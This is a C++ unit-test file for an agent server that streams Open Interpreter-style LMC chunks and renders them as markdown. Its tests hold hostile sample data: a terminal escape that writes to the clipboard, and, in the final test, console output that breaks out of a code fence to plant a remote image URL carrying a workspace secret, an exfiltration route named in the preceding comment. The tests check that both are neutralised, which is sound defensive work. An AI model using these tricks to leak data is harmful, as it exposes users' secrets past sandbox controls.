// Open Interpreter's server protocol as data: client chunks accumulated into messages, chat-completions bodies
// turned into a conversation, the agent's display as LMC chunks, and those chunks as an OpenAI answer's markdown.
#include <gtest/gtest.h>

#include "agent/server/lmc_display.h"
#include "agent/server/oi_protocol.h"

namespace oishell::agent::server {
namespace {

using nlohmann::json;
using K = LmcStep::Kind;

TEST(ServerProtocol, ChunksMakeAUserMessage) {
  LmcAccumulator acc;
  LmcStep s = acc.feed({{"role", "user"}, {"start", true}});  // OI's page sends start without a type
  EXPECT_EQ(K::more, s.kind);
  EXPECT_TRUE(s.started);
  EXPECT_EQ(K::more, acc.feed({{"role", "user"}, {"type", "message"}, {"content", "hel"}}).kind);
  EXPECT_EQ(K::more, acc.feed({{"role", "user"}, {"type", "message"}, {"content", "lo"}}).kind);
  s = acc.feed({{"role", "user"}, {"end", true}});
  ASSERT_EQ(K::user_message, s.kind);
  EXPECT_EQ("hello", s.message.content);
  EXPECT_EQ("message", s.message.type);
}

TEST(ServerProtocol, CommandsAndOtherMessages) {
  LmcAccumulator acc;
  (void)acc.feed({{"role", "user"}, {"type", "command"}, {"start", true}});
  (void)acc.feed({{"role", "user"}, {"type", "command"}, {"content", "go"}});
  LmcStep s = acc.feed({{"role", "user"}, {"type", "command"}, {"end", true}});
  ASSERT_EQ(K::command, s.kind);
  EXPECT_EQ("go", s.message.content);
  s = acc.feed({{"role", "assistant"}, {"type", "message"}, {"content", "earlier answer"}, {"end", true}});
  EXPECT_EQ(K::other_message, s.kind);
  EXPECT_EQ(K::more, acc.feed({{"role", "user"}, {"type", "console"}, {"format", "active_line"}, {"content", "1"}}).kind);
}

TEST(ServerProtocol, BadChunks) {
  LmcAccumulator acc(10);
  EXPECT_EQ(K::error, acc.feed(json::array()).kind);
  EXPECT_EQ(K::error, acc.feed({{"content", "no start"}}).kind);
  EXPECT_EQ(K::error, acc.feed({{"end", true}}).kind);
  EXPECT_EQ(K::error, acc.feed({{"role", "user"}, {"type", 3}, {"start", true}}).kind);
  (void)acc.feed({{"role", "user"}, {"type", "message"}, {"start", true}});
  EXPECT_EQ(K::error, acc.feed({{"content", 5}}).kind);
  EXPECT_EQ(K::error, acc.feed({{"content", "more than ten bytes"}}).kind);  // the bound on a message
}

// A client's field of the wrong type is an error step naming it, not an exception (json::value() throws on one,
// which ended the server); the accessors read it as absent.
TEST(ServerProtocol, WrongTypedFieldsAreErrorsNotExceptions) {
  LmcAccumulator acc;
  LmcStep s = acc.feed({{"role", "user"}, {"type", "message"}, {"start", "yes"}});
  EXPECT_EQ(K::error, s.kind);
  EXPECT_EQ("`start` must be true or false", s.error);
  s = acc.feed({{"role", "user"}, {"type", "message"}, {"start", true}});
  EXPECT_EQ(K::more, s.kind);  // the neighbour: a boolean start
  s = acc.feed({{"role", "user"}, {"type", "message"}, {"content", "hi"}, {"end", 1}});
  EXPECT_EQ(K::error, s.kind);
  EXPECT_EQ("`end` must be true or false", s.error);
  s = acc.feed({{"role", "user"}, {"type", "message"}, {"end", true}});
  ASSERT_EQ(K::user_message, s.kind);
  const json odd = {{"start", "yes"}, {"type", 7}, {"content", json::array()}, {"end", nullptr}};
  EXPECT_FALSE(lmc_true(odd, "start"));
  EXPECT_FALSE(lmc_true(odd, "end"));
  EXPECT_EQ("", lmc_string(odd, "type"));
  EXPECT_EQ("", lmc_string(odd, "content"));
  EXPECT_EQ("", lmc_string(json::array({1}), "type"));
  EXPECT_TRUE(lmc_true({{"start", true}}, "start"));
  EXPECT_EQ("stop", lmc_string({{"content", "stop"}}, "content"));
}

TEST(ServerProtocol, ChatRequests) {
  auto r = parse_chat_request(R"({"model": "m", "stream": true, "messages": [
      {"role": "system", "content": "left out"},
      {"role": "user", "content": "first"},
      {"role": "assistant", "content": "answer"},
      {"role": "user", "content": [{"type": "text", "text": "a"}, {"type": "text", "text": "b"}]}]})");
  ASSERT_TRUE(r) << r.status().message();
  EXPECT_EQ("m", r->model);
  EXPECT_TRUE(r->stream);
  ASSERT_EQ(2u, r->history.size());
  EXPECT_EQ(Message::user("first"), r->history[0]);
  EXPECT_EQ(Message::assistant("answer"), r->history[1]);
  EXPECT_EQ("a\nb", r->user_text);
  for (const char* bad : {"", "[]", "{}", R"({"messages": []})", R"({"messages": [{"role": "assistant", "content": "x"}]})",
                          R"({"messages": [{"content": "x"}]})", R"({"messages": [{"role": "user", "content": 5}]})",
                          R"({"stream": "yes", "messages": [{"role": "user", "content": "x"}]})",
                          R"({"messages": [{"role": "user", "content": [{"type": "image_url", "image_url": {}}]}]})"}) {
    EXPECT_FALSE(parse_chat_request(bad)) << bad;
  }
}

TEST(ServerProtocol, TheDisplayStreamsLmcChunks) {
  std::vector<json> chunks;
  LmcDisplay d([&](const json& c) { chunks.push_back(c); });
  d.user_message("not echoed");
  d.message_delta("Hi");
  d.code_begin("python");
  d.code_delta("print(1)");
  d.code_end();
  d.console_begin();
  d.console_output("stdout", "1\n\x1b]52;c;cGF5bG9hZA==\x07");  // the clipboard write is filtered out
  d.console_end({{"status", "ok"}, {"exit_code", 0}});
  d.confirmation("shell", "ls");
  EXPECT_TRUE(d.take_confirmation_pending());
  EXPECT_FALSE(d.take_confirmation_pending());
  d.notice(NoticeLevel::error, "boom");
  std::vector<json> want = {
      {{"role", "assistant"}, {"type", "message"}, {"start", true}},
      {{"role", "assistant"}, {"type", "message"}, {"content", "Hi"}},
      {{"role", "assistant"}, {"type", "message"}, {"end", true}},
      {{"role", "assistant"}, {"type", "code"}, {"format", "python"}, {"start", true}},
      {{"role", "assistant"}, {"type", "code"}, {"format", "python"}, {"content", "print(1)"}},
      {{"role", "assistant"}, {"type", "code"}, {"format", "python"}, {"end", true}},
      {{"role", "computer"}, {"type", "console"}, {"start", true}},
      {{"role", "computer"}, {"type", "console"}, {"format", "output"}, {"content", "1\n"}},
      {{"role", "computer"}, {"type", "console"}, {"end", true}, {"status", "ok"}, {"exit_code", 0}},
      {{"role", "computer"}, {"type", "confirmation"}, {"format", "execution"},
       {"content", {{"type", "code"}, {"format", "shell"}, {"content", "ls"}}}},
      {{"role", "server"}, {"type", "error"}, {"content", "boom"}},
  };
  EXPECT_EQ(json(want), json(chunks));
}

TEST(ServerProtocol, MarkdownOfAnAnswer) {
  std::vector<json> chunks;
  LmcDisplay d([&](const json& c) { chunks.push_back(c); });
  d.message_delta("Running it.");
  d.answer_end();
  d.code_begin("python");
  d.code_delta("print(42)");
  d.code_end();
  d.console_begin();
  d.console_output("stdout", "42");
  d.console_end({});
  d.message_delta("Done.");
  d.answer_end();
  MarkdownRenderer r;
  std::string text;
  for (const auto& c : chunks) text += r.feed(c);
  EXPECT_EQ("Running it.\n\n```python\nprint(42)\n```\n\n```output\n42\n```\n\nDone.", text);
}

// Issue 34, finding 6: a block's output closed the fixed ``` fence and wrote a remote image after it, which a markdown
// client fetches (the workspace's secret in its address): a way out the sandbox's policy never sees. Output stays in
// its fence, the model's own images and the language it names cannot add markdown either.
TEST(ServerProtocol, MarkdownFromOutputCannotLeaveItsFence) {
  std::vector<json> chunks;
  LmcDisplay d([&](const json& c) { chunks.push_back(c); });
  d.code_begin("python\n![a](http://127.0.0.1/?d=lang)");
  d.code_delta("print('```')");
  d.code_end();
  d.console_begin();
  d.console_output("stdout", "```\n![status](http://127.0.0.1/?d=secret)\nNo code was run.\n");
  d.console_end({});
  d.message_delta("Look: !");
  d.message_delta("[x](http://127.0.0.1/?d=y)");
  d.answer_end();
  MarkdownRenderer r;
  std::string text;
  for (const auto& c : chunks) text += r.feed(c);
  EXPECT_EQ("```pythonahttp127.0.0.1dlang\nprint('```')\n```\n\n"
            "```output\n    ```\n![status](http://127.0.0.1/?d=secret)\nNo code was run.\n```\n\n"
            "Look: !\\[x](http://127.0.0.1/?d=y)",
            text);
}

}  // namespace
}  // namespace oishell::agent::server
